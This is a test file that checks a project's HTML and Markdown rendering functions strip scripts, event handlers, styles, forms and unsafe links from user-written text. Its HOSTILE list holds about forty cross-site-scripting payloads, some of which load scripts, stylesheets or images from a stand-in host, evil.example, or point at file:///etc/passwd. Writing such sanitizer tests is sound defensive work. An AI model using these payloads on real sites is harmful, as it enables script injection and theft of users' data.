"""Nothing in an entry or an answer runs, loads or hides; everything that can be read stays."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.rendering import entry_html, prose_html
from api.rendering.maths import MATHML_ATTRIBUTES, MATHML_TAGS
from rag.models import Span

HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<math href="javascript:alert(1)">click</math>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><form><input name=q><button formaction=javascript:alert(1)>go</button></form>",
    "<style>body{background:url(//evil.example)}</style>",
    '<p style="background:url(javascript:alert(1))" onclick=alert(1)>text</p>',
    "<base href=//evil.example><link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content=0>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<a href=javascript:alert(1)>link</a>",
    "<a\x00href='javascript:alert(1)'>link</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &ltscript &#x3c; &#99999999; &bogus; &",
    "</div></article></main><h1>outside</h1>",
    "control \x00\x01\x08\x1b[31m\x7f\ufdd0\ufffe characters",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "$<script>alert(1)</script>$",
    r"$\text{<script>alert(1)</script>}$",
    r"$$\text{</math><img src=x onerror=alert(1)>}$$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(//evil.example)}{x} \class{x}{y} \cssId{x}{y}$",
    r"\[\begin{matrix}<img src=x onerror=alert(1)>\end{matrix}\]",
    "[link](javascript:alert(1))",
    "[link](JaVaScRiPt:alert(1))",
    "[link](java\tscript:alert(1))",
    "[link](&#106;avascript:alert(1))",
    "[link](data:text/html;base64,PHNjcmlwdD4=)",
    "[link](vbscript:x) [link](file:///etc/passwd) <javascript:alert(1)>",
    '[link](https://example.org "title\\" onmouseover=alert(1)")',
    "![picture](https://evil.example/pixel.png) ![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x]: javascript:alert(1)\n\n[x]",
)
SHOWN = set("p br hr h3 h4 h5 h6 strong em s code pre blockquote ul ol li div a mark sup span".split())
SHOWN |= set("table thead tbody tr th td".split())
ATTRIBUTES = set("href title class id start rel tabindex role aria-label data-n".split()) | MATHML_ATTRIBUTES


class Seen(HTMLParser):
    """What a browser would make of HTML: its elements, their attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """See an element."""
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        """See text."""
        self.text += data


def assert_harmless(html: str) -> None:
    """Fail where HTML holds anything but what the pages show."""
    for tag, attributes in Seen(html).elements:
        assert tag in SHOWN | MATHML_TAGS, html
        assert set(attributes) <= ATTRIBUTES, html
        assert not any(name.startswith("on") for name in attributes), html
        href = attributes.get("href")
        assert href is None or re.match(r"(https?|mailto):|/(?!/)|#|$", href), html


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_does_nothing(text: str) -> None:
    """Scripts, handlers, styles, forms and addresses that run are no markup, whole or with a span marked."""
    assert_harmless(prose_html(text))
    assert_harmless(entry_html(text, Span(3, len(text) - 3)))


@pytest.mark.parametrize("text", [text for text in HOSTILE if text.startswith("<") and "\x00" not in text])
def test_markup_in_a_text_is_text(text: str) -> None:
    """HTML that somebody wrote into an entry is shown as he wrote it."""
    assert Seen(prose_html(text)).text.split() == text.replace("&gt;", ">").replace("&lt;", "<").split()


def test_entities_are_read_and_broken_ones_kept() -> None:
    """An entity shows its character, what is none shows as it stands, and neither becomes markup."""
    text = Seen(prose_html("&lt;b&gt; &amp; &#945; &bogus; &ampx & \\<i\\>")).text
    assert text.strip() == "<b> & α &bogus; &ampx & <i>"


def test_a_picture_is_its_description() -> None:
    """A page loads nothing from elsewhere: a picture is told in words."""
    assert prose_html("See ![a leaf](https://example.org/leaf.png).") == "<p>See a leaf.</p>\n"


def test_links_tell_nothing_of_the_reader() -> None:
    """A link outside is one, without the page's address going with it; what no link may be shows as it was written."""
    assert 'rel="noopener noreferrer nofollow"' in prose_html("[a](https://example.org)")
    assert prose_html("[a](javascript:b)") == "<p>[a](javascript:b)</p>\n"


def test_headings_stand_below_the_pages_own() -> None:
    """The first heading of an answer is a page's third level, and the levels below follow."""
    assert "<h3>A</h3>" in prose_html("# A")
    assert "<h4>A</h4>" in prose_html("## A")
    assert "<h6>A</h6>" in prose_html("###### A")


PIECES = st.sampled_from(
    [
        *"<>&\"'`*_$[]()|\\#!-\n ",
        "<script",
        "onerror=",
        "javascript:",
        "](",
        "$$",
        "\\(",
        "&lt;",
        "math",
        "x1",
        "- ",
        "1. ",
    ]
)


@given(st.lists(PIECES, max_size=40).map("".join), st.integers(0, 60), st.integers(0, 60))
def test_no_mixture_does_anything(text: str, start: int, end: int) -> None:
    """Whatever marks are put beside one another, marked anywhere: nothing but what the pages show comes of it."""
    assert_harmless(entry_html(text, Span(start, end)))


@given(st.text(max_size=80))
def test_any_text_can_be_shown(text: str) -> None:
    """No text is an error."""
    assert_harmless(prose_html(text))
